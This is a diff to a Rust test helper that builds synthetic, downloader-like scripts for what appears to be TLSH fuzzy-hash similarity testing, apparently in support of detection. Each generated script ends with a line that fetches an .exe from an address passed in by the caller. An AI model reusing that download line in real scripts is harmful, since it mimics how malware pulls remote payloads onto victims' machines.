@@ -94,12 +94,14 @@ mod tests {
         Tlsh::parse(&digest(text.as_bytes()).unwrap()).unwrap()
     }
 
+    /// Long enough that one address is little of it: in a short script it is much.
     fn script(address: &str) -> String {
-        let lines = (1..60_u32).map(|n| format!("x{n} = f{}({})\r\n", n % 7, n * n * 31 % 9973));
-        format!(
-            "{}o.Open \"GET\", \"http://{address}/a.bin\"\r\n",
-            lines.collect::<String>()
-        )
+        let lines = (1..200_u32).map(|n| {
+            let part = n * n * 31 % 9973;
+            format!("var v{n} = pick({part}, \"part{}\");\r\n", n % 13)
+        });
+        let body: String = lines.collect();
+        format!("{body}o.open(\"GET\", \"http://{address}/a.exe\", false);\r\n")
     }
 
     #[test]
